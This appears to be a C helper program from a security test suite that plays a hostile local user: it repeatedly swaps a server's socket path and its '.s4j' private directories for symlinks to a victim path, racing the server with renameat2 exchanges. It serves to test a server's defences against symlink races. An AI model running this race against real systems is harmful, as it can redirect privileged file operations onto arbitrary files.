/*
 * swapper.c: the hostile local user of SecurityTest, as fast as C allows.
 * In DIR, exchanges NAME with a symbolic link to VICTIM over and over
 * (renameat2 RENAME_EXCHANGE, Linux), and every directory named .s4j* with
 * one of its own that holds a link "s" to VICTIM.  Prints "ready", then
 * runs until killed.  Linux only; built by the test with cc.
 *
 *	swapper DIR NAME VICTIM
 */
#define	_GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define	RENAME_EXCHANGE	(1 << 1)
#endif

static int
exchange(int dfd, const char *a, const char *b)
{
	return ((int)syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE));
}

int
main(int argc, char **argv)
{
	int dfd;
	unsigned long n;
	char evil[64], trap[64], link[128];

	if (argc != 4) {
		(void) fprintf(stderr, "usage: swapper DIR NAME VICTIM\n");
		return (2);
	}
	if ((dfd = open(argv[1], O_RDONLY | O_DIRECTORY)) < 0) {
		perror(argv[1]);
		return (1);
	}
	(void) snprintf(evil, sizeof (evil), ".evil%d", (int)getpid());
	(void) unlinkat(dfd, evil, 0);
	if (symlinkat(argv[3], dfd, evil) != 0) {
		perror("symlink");
		return (1);
	}
	(void) printf("ready\n");
	(void) fflush(stdout);
	for (n = 0; ; n++) {
		struct stat st;

		/*
		 * The path: whatever is there (a socket just bound) swapped for
		 * the link, and back on the next turn.
		 */
		(void) exchange(dfd, evil, argv[2]);
		if ((n & 63) != 0)
			continue;
		/* The server's private directories: swapped for one of ours. */
		DIR *d = fdopendir(dup(dfd));
		struct dirent *e;

		if (d == NULL)
			continue;
		/* The dup shares dfd's offset, left at the end by the last pass. */
		rewinddir(d);
		while ((e = readdir(d)) != NULL) {
			if (strncmp(e->d_name, ".s4j", 4) != 0)
				continue;
			(void) snprintf(trap, sizeof (trap), ".trap%lu", n);
			if (mkdirat(dfd, trap, 0777) != 0)
				continue;
			(void) snprintf(link, sizeof (link), "%s/s", trap);
			(void) symlinkat(argv[3], dfd, link);
			(void) exchange(dfd, trap, e->d_name);
			(void) fstatat(dfd, trap, &st, 0);
		}
		(void) closedir(d);
	}
}
